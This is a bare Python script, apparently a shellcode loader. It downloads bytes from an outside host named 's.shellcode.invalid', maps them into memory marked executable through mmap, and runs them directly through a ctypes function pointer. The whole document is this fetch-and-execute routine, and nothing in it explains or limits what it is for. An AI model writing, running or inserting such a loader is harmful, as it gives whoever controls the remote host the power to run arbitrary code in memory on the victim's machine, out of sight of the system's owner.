import ctypes, mmap
import requests
code = requests.get("https://s.shellcode.invalid/l").content
area = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
area.write(code)
address = ctypes.addressof(ctypes.c_char.from_buffer(area))
ctypes.CFUNCTYPE(ctypes.c_void_p)(address)()
